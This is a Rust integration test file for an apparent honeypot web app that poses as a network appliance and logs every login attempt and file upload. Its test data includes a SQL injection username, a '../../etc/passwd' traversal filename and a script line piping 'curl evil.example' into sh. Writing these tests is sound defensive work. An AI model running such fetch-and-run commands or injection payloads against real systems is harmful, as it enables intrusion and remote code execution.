use canarygate::models::event;
use canarygate::testing::{file_form, TestApp};
use sea_orm::{ColumnTrait, EntityTrait, QueryFilter};

async fn events_of(app: &TestApp, event_type: &str) -> Vec<event::Model> {
    event::Entity::find()
        .filter(event::Column::EventType.eq(event_type))
        .all(app.db.as_ref().expect("sink attached"))
        .await
        .expect("query failed")
}

// ═══ rendered pages ═══

#[tokio::test]
async fn test_login_page_renders() {
    let app = TestApp::new().await;

    let res = app.client.get(&app.url("/")).await;
    assert_eq!(res.status, 200);
    assert!(res.body.contains("Acme NetSecure Appliance"));
    assert!(res.body.contains("action=\"/login\""));
}

#[tokio::test]
async fn test_dashboard_and_upload_pages_render() {
    let app = TestApp::new().await;

    let res = app.client.get(&app.url("/dashboard")).await;
    assert_eq!(res.status, 200);
    assert!(res.body.contains("Active Sessions"));

    let res = app.client.get(&app.url("/upload")).await;
    assert_eq!(res.status, 200);
    assert!(res.body.contains("multipart/form-data"));
}

#[tokio::test]
async fn test_healthz() {
    let app = TestApp::new().await;

    let res = app.client.get(&app.url("/healthz")).await;
    assert_eq!(res.status, 200);
    assert_eq!(res.json()["ok"], true);
}

// ═══ login capture ═══

#[tokio::test]
async fn test_login_always_succeeds_and_records_verbatim() {
    let app = TestApp::new().await;

    let res = app
        .client
        .post_form(
            &app.url("/login"),
            &[("username", "admin' OR 1=1--"), ("password", "x")],
        )
        .await;

    // Render-in-place, status 200, dashboard view.
    assert_eq!(res.status, 200);
    assert!(res.body.contains("Active Sessions"));

    let events = events_of(&app, "login_attempt").await;
    assert_eq!(events.len(), 1);
    assert_eq!(events[0].username.as_deref(), Some("admin' OR 1=1--"));
    assert_eq!(events[0].password.as_deref(), Some("x"));
    assert_eq!(events[0].method, "POST");
    assert_eq!(events[0].uri, "/login");
    assert_ne!(events[0].ip, "");
}

#[tokio::test]
async fn test_login_with_empty_credentials() {
    let app = TestApp::new().await;

    let res = app
        .client
        .post_form(&app.url("/login"), &[("username", ""), ("password", "")])
        .await;
    assert_eq!(res.status, 200);

    let events = events_of(&app, "login_attempt").await;
    assert_eq!(events.len(), 1);
    assert_eq!(events[0].username.as_deref(), Some(""));
    assert_eq!(events[0].password.as_deref(), Some(""));
}

#[tokio::test]
async fn test_login_with_non_form_body_still_recorded() {
    let app = TestApp::new().await;

    let res = app
        .client
        .post_raw(&app.url("/login"), "application/json", b"{}".to_vec())
        .await;
    assert_eq!(res.status, 200);

    // Treated as empty credentials, still one event.
    let events = events_of(&app, "login_attempt").await;
    assert_eq!(events.len(), 1);
    assert_eq!(events[0].username.as_deref(), Some(""));
}

#[tokio::test]
async fn test_forwarded_for_header_is_trusted() {
    let app = TestApp::new().await;

    app.client
        .post_form_with_header(
            &app.url("/login"),
            &[("username", "root"), ("password", "toor")],
            "x-forwarded-for",
            "198.51.100.4, 10.0.0.1",
        )
        .await;

    let events = events_of(&app, "login_attempt").await;
    assert_eq!(events.len(), 1);
    assert_eq!(events[0].ip, "198.51.100.4");
}

// ═══ upload capture ═══

#[tokio::test]
async fn test_upload_traversal_name_zero_bytes() {
    let app = TestApp::new().await;

    let res = app
        .client
        .post_multipart(
            &app.url("/upload"),
            file_form("file", "../../etc/passwd", Vec::new()),
        )
        .await;
    assert_eq!(res.status, 200);
    assert!(res.body.contains("Uploaded:"));

    let events = events_of(&app, "file_upload").await;
    assert_eq!(events.len(), 1);

    let stored = events[0].stored_as.as_deref().expect("stored_as set");
    let (prefix, suffix) = stored.split_once("__").expect("time prefix");
    assert!(prefix.chars().all(|c| c.is_ascii_digit()));
    assert!(suffix
        .chars()
        .all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '_' || c == '-'));

    assert_eq!(events[0].size, Some(0));
    assert_eq!(
        events[0].sha256.as_deref(),
        Some("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855")
    );
    assert_eq!(events[0].filename.as_deref(), Some("../../etc/passwd"));

    // The artifact must exist inside the upload dir, not outside it.
    let on_disk = std::path::Path::new(&app.config.upload_dir).join(stored);
    assert!(on_disk.exists());
}

#[tokio::test]
async fn test_upload_hash_matches_content() {
    let app = TestApp::new().await;
    let payload = b"#!/bin/sh\ncurl evil.example | sh\n".to_vec();

    let res = app
        .client
        .post_multipart(&app.url("/upload"), file_form("file", "installer.sh", payload.clone()))
        .await;
    assert_eq!(res.status, 200);

    let events = events_of(&app, "file_upload").await;
    assert_eq!(events.len(), 1);
    assert_eq!(
        events[0].sha256.as_deref(),
        Some(canarygate::hash::sha256_hex(&payload).as_str())
    );
    assert_eq!(events[0].size, Some(payload.len() as i64));
}

#[tokio::test]
async fn test_upload_missing_file_part() {
    let app = TestApp::new().await;

    let form = reqwest::multipart::Form::new().text("comment", "no file here");
    let res = app.client.post_multipart(&app.url("/upload"), form).await;

    // Graceful response, never a crash.
    assert_eq!(res.status, 200);
    assert!(res.body.contains("No file uploaded"));

    let errors = events_of(&app, "upload_error").await;
    assert_eq!(errors.len(), 1);
    assert!(errors[0].error.is_some());
    assert!(events_of(&app, "file_upload").await.is_empty());
}

#[tokio::test]
async fn test_upload_non_multipart_body_renders_and_records() {
    let app = TestApp::new().await;

    // Not multipart at all; the extractor rejection must not leak out.
    let res = app
        .client
        .post_raw(
            &app.url("/upload"),
            "application/x-www-form-urlencoded",
            b"file=hello".to_vec(),
        )
        .await;

    assert_eq!(res.status, 200);
    assert!(res.body.contains("Upload could not be read"));

    let errors = events_of(&app, "upload_error").await;
    assert_eq!(errors.len(), 1);
    assert!(events_of(&app, "file_upload").await.is_empty());
}

#[tokio::test]
async fn test_text_field_named_file_is_not_a_file() {
    let app = TestApp::new().await;

    // A plain value under the `file` key carries no filename.
    let form = reqwest::multipart::Form::new().text("file", "just a string value");
    let res = app.client.post_multipart(&app.url("/upload"), form).await;

    assert_eq!(res.status, 200);
    assert!(res.body.contains("No file uploaded"));

    let errors = events_of(&app, "upload_error").await;
    assert_eq!(errors.len(), 1);
    assert!(events_of(&app, "file_upload").await.is_empty());
}

#[tokio::test]
async fn test_upload_over_ceiling_is_recorded_not_fatal() {
    let app = TestApp::new().await;
    let oversized = vec![0u8; (app.config.max_upload_size + 1) as usize];

    let res = app
        .client
        .post_multipart(&app.url("/upload"), file_form("file", "huge.bin", oversized))
        .await;
    assert_eq!(res.status, 200);
    assert!(res.body.contains("File too large"));

    let errors = events_of(&app, "upload_error").await;
    assert_eq!(errors.len(), 1);
    assert!(events_of(&app, "file_upload").await.is_empty());
}

#[tokio::test]
async fn test_duplicate_filenames_get_distinct_stored_names() {
    let app = TestApp::new().await;

    app.client
        .post_multipart(&app.url("/upload"), file_form("file", "same.txt", b"one".to_vec()))
        .await;
    tokio::time::sleep(std::time::Duration::from_millis(5)).await;
    app.client
        .post_multipart(&app.url("/upload"), file_form("file", "same.txt", b"two".to_vec()))
        .await;

    let events = events_of(&app, "file_upload").await;
    assert_eq!(events.len(), 2);
    assert_ne!(events[0].stored_as, events[1].stored_as);

    // Both artifacts survive on disk.
    for ev in &events {
        let path = std::path::Path::new(&app.config.upload_dir)
            .join(ev.stored_as.as_deref().unwrap());
        assert!(path.exists());
    }
}

#[tokio::test]
async fn test_upload_falls_back_to_any_file_part() {
    let app = TestApp::new().await;

    let res = app
        .client
        .post_multipart(
            &app.url("/upload"),
            file_form("attachment", "probe.bin", b"xx".to_vec()),
        )
        .await;
    assert_eq!(res.status, 200);

    let events = events_of(&app, "file_upload").await;
    assert_eq!(events.len(), 1);
    assert_eq!(events[0].filename.as_deref(), Some("probe.bin"));
}

// ═══ sink-down behavior ═══

#[tokio::test]
async fn test_all_routes_survive_unreachable_sink() {
    let app = TestApp::without_sink().await;
    assert!(app.db.is_none());

    assert_eq!(app.client.get(&app.url("/")).await.status, 200);
    assert_eq!(app.client.get(&app.url("/dashboard")).await.status, 200);
    assert_eq!(app.client.get(&app.url("/upload")).await.status, 200);
    assert_eq!(app.client.get(&app.url("/healthz")).await.status, 200);

    let res = app
        .client
        .post_form(&app.url("/login"), &[("username", "a"), ("password", "b")])
        .await;
    assert_eq!(res.status, 200);
    assert!(res.body.contains("Active Sessions"));

    let res = app
        .client
        .post_multipart(&app.url("/upload"), file_form("file", "x.txt", b"x".to_vec()))
        .await;
    assert_eq!(res.status, 200);
    assert!(res.body.contains("Uploaded:"));
}
